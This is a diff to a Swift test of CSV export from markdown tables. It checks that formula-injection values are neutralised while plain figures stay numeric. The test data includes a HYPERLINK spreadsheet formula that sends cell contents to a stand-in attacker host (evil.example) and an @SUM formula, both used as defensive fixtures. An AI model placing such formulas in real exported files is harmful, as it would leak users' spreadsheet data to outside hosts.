@@ -51,9 +51,10 @@ import Testing
         let table = try #require(TableCSV.tables(in: markdown).first)
         #expect(table.rows[1][0] == payee)
         let csv = table.csv
-        #expect(csv == "Payee,Amount\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",\"'-£1,234.56\"\r\n'@SUM(A1),'+1\r\n")
+        // The formulas are guarded; the figures, which hold no formula, stay figures a spreadsheet reads.
+        #expect(csv == "Payee,Amount\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",\"-£1,234.56\"\r\n'@SUM(A1),+1\r\n")
         let parsed = try #require(Self.parse(csv))
-        #expect(parsed.allSatisfy { $0.allSatisfy { field in !["=", "+", "-", "@"].contains(field.first.map(String.init) ?? "") } })
+        #expect(parsed.map(\.[0]).allSatisfy { field in !["=", "+", "-", "@"].contains(field.first.map(String.init) ?? "") })
     }
 
     @Test func nonASCIIAndBidiControls() throws {
